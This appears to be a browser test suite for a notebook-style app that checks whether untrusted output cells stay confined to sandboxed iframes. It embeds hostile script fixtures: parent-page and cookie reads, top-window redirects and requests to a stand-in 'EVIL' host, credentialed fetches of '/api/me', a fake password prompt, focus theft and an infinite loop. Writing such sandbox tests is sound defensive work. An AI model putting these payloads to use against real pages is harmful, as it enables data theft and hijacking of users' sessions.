// Programs in outputs, in real Chromium: they run in frames of their own, and whatever they do there, the page stays the
// page, answers, keeps the keyboard, and nobody is asked for anything.
import { afterAll, beforeAll, expect, test } from 'vitest'
import { bringUp, type HostileClass, hostileClass, placesCovered } from '../support/hostile-class.ts'

let hostile: HostileClass

const program = (script: string, html = '') => ({
  'text/html': `<p>alive</p>${html}<script>${script}</script>`,
})

/** What each tries; a frame that has done its worst says `tried`. */
const quiet: Record<string, Record<string, unknown>> = {
  'reads the page': program(
    `for (const act of [() => parent.document.title, () => top.document.body.innerHTML, () => parent.hacked = 1, () => localStorage.x, () => document.cookie = 'a=1', () => frameElement.remove()]) try { act(); parent.hacked = 1 } catch {}`,
  ),
  'leads the page away': program(
    `for (const act of [() => top.location = 'EVIL/top', () => parent.location.href = 'EVIL/parent', () => open('EVIL/open', '_top'), () => open('EVIL/popup'), () => history.go(-1), () => history.back()]) try { act() } catch {}`,
    `<a id="a" href="EVIL/click" target="_top">a</a><form id="f" action="EVIL/form" target="_top"></form><script>a.click(); f.submit()</script>`,
  ),
  'asks other servers': program(
    `for (const act of [() => fetch('EVIL/fetch').catch(() => {}), () => navigator.sendBeacon('EVIL/beacon'), () => new WebSocket('EVIL/socket'.replace('http', 'ws')), () => new EventSource('EVIL/events'), () => new Image().src = 'EVIL/image', () => import('EVIL/module').catch(() => {}), () => new Worker('EVIL/worker'), () => { const r = new XMLHttpRequest(); r.open('GET', 'EVIL/xhr'); r.send() }, () => navigator.serviceWorker.register('EVIL/sw').catch(() => {})]) try { act() } catch {}`,
    `<link rel="stylesheet" href="EVIL/css"><link rel="preconnect" href="EVIL/connect"><img src="EVIL/img"><video src="EVIL/video"></video><style>@import "EVIL/import"; p { background: url(EVIL/url) }</style><iframe src="EVIL/iframe"></iframe><object data="EVIL/object"></object>`,
  ),
  'asks this server': program(
    `for (const path of ['/api/me', '/api/classrooms', '/']) fetch(path, { credentials: 'include' }).then(() => parent.postMessage({ reached: path }, '*'), () => {})`,
  ),
  'opens dialogs': program(
    `try { alert('Your password?') } catch {} try { prompt('x') } catch {} try { print() } catch {} document.documentElement.requestFullscreen?.().catch(() => {}); document.body.requestPointerLock?.()`,
  ),
  'says it is huge': program(
    `for (let i = 0; i < 5000; i++) parent.postMessage({ height: 1e9 + i }, '*'); for (const message of [{ ready: true }, { height: 'x' }, { height: -5 }, { html: 'x' }, null, [], { height: Infinity }]) parent.postMessage(message, '*')`,
    '<div style="height:99999px;position:fixed;inset:-999px;z-index:999999">x</div>',
  ),
  'grows with its frame': program(``, '<div style="height:120vh">x</div>'),
  'writes over itself': program(`document.write('<p>alive again</p>'); document.close()`),
}

const hostileAlone: Record<string, Record<string, unknown>> = {
  'takes the keyboard': program(
    `setInterval(() => { window.focus(); document.querySelector('input').focus() }, 50)`,
    '<input autofocus>',
  ),
  'leads itself away': program(`setTimeout(() => { location.href = 'EVIL/itself' }, 50)`),
  'the last': { 'text/plain': 'the last' },
}

beforeAll(async () => {
  hostile = await hostileClass({ ...quiet, ...hostileAlone })
  await hostile.page.evaluate(() => {
    const field = document.createElement('textarea')
    field.id = 'written-here'
    field.style.cssText = 'position: fixed; right: 0; top: 0; width: 9rem; height: 2rem'
    document.body.append(field)
    Object.assign(window, { heard: [] })
    const { heard } = window as unknown as { heard: unknown[] }
    window.addEventListener('message', ({ data }) => {
      if (data?.reached) heard.push(data)
    })
  })
})

afterAll(async () => {
  await hostile[Symbol.asyncDispose]()
})

/** Resolves once the page has drawn that many frames, which it does only while nothing holds it up. */
function framesDrawn(count: number, { page } = hostile): Promise<void> {
  return page.evaluate(
    wanted =>
      new Promise<void>(resolve => {
        let drawn = 0
        const next = () => (++drawn < wanted ? requestAnimationFrame(next) : resolve())
        requestAnimationFrame(next)
      }),
    count,
  )
}

test.each(Object.keys(quiet))('a program that %s stays in its frame', async name => {
  const cell = hostile.cellOf(name)
  await bringUp(cell)
  await cell.frameLocator('iframe').getByText('alive').first().waitFor()
  await framesDrawn(30)
  expect(await placesCovered(cell)).toEqual([])
  expect((await cell.boundingBox())?.height).toBeLessThan(900)
  const { page } = hostile
  expect(page.url()).toContain('/stage/')
  expect(page.context().pages()).toHaveLength(1)
  expect(await page.evaluate(() => (window as { hacked?: number }).hacked ?? 0)).toBe(0)
})

test('a frame has a name for those who do not see it', async () => {
  const titles = await hostile.page
    .locator('iframe')
    .evaluateAll(all => all.map(frame => frame.getAttribute('title')))
  expect(titles[0]).toBe('Output of cell 1, interactive')
  expect(new Set(titles).size).toBe(titles.length)
})

test('a program that takes the keyboard is ended, and what is typed goes where it was', async () => {
  const { page } = hostile
  const field = page.locator('#written-here')
  await field.click()
  const cell = hostile.cellOf('takes the keyboard')
  await bringUp(cell)
  await cell.getByText('took the keyboard away').waitFor()
  await page.keyboard.type('mine')
  expect(await field.inputValue()).toBe('mine')
  expect(await cell.locator('iframe').count()).toBe(0)
})

test('a program that leads itself away gets nowhere', async () => {
  const cell = hostile.cellOf('leads itself away')
  await bringUp(cell)
  await cell.getByText('went to another page').waitFor()
  expect(hostile.asked).toEqual([])
})

test('nobody was asked for anything, and no frame reached this server', async () => {
  const { page, asked } = hostile
  expect(asked).toEqual([])
  expect(await page.evaluate(() => (window as unknown as { heard: unknown[] }).heard)).toEqual([])
})

test('a program that spins for ever is ended, and the page goes on meanwhile', async () => {
  await using spinning = await hostileClass({
    'spins for ever': { 'text/html': '<p>alive</p><script>setTimeout(() => { for (;;); }, 200)</script>' },
    'an innocent one': program('document.querySelector("p").textContent = "innocent"'),
  })
  const cell = spinning.cellOf('spins for ever')
  await bringUp(cell)
  await cell.locator('iframe').waitFor()
  let isOver = false
  const over = cell
    .getByText('gave no sign any more')
    .waitFor({ timeout: 60_000 })
    .then(() => {
      isOver = true
    })
  await framesDrawn(60, spinning)
  expect(isOver).toBe(false)
  await over
  expect(await spinning.page.locator('iframe').count()).toBe(0)
  const innocent = spinning.cellOf('an innocent one')
  await innocent.getByRole('button', { name: 'Run it again' }).click()
  await innocent.frameLocator('iframe').getByText('innocent').waitFor()
})
